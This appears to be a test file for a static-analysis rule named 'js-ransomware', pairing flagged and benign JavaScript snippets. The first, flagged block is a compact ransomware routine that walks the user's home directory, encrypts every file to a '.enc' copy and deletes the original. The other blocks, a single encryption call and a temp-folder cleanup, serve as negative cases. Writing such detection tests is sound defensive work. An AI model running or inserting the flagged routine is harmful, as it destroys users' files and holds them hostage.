const walk = (dir) => fs.readdirSync(dir, { withFileTypes: true }).flatMap((e) =>
  e.isDirectory() ? walk(path.join(dir, e.name)) : [path.join(dir, e.name)]);
for (const file of walk(os.homedir())) {
  // ruleid: js-ransomware
  const cipher = crypto.createCipheriv("aes-256-cbc", key, iv);
  fs.writeFileSync(file + ".enc", Buffer.concat([cipher.update(fs.readFileSync(file)), cipher.final()]));
  fs.unlinkSync(file);
}
// ===== block =====
// ok: js-ransomware
const cipher = crypto.createCipheriv("aes-256-gcm", key, iv);
const sealed = Buffer.concat([cipher.update(secret), cipher.final()]);
// ===== block =====
for (const f of fs.readdirSync(tmpDir)) {
  fs.unlinkSync(path.join(tmpDir, f));
}
// ok: js-ransomware
console.log("temporary files removed");
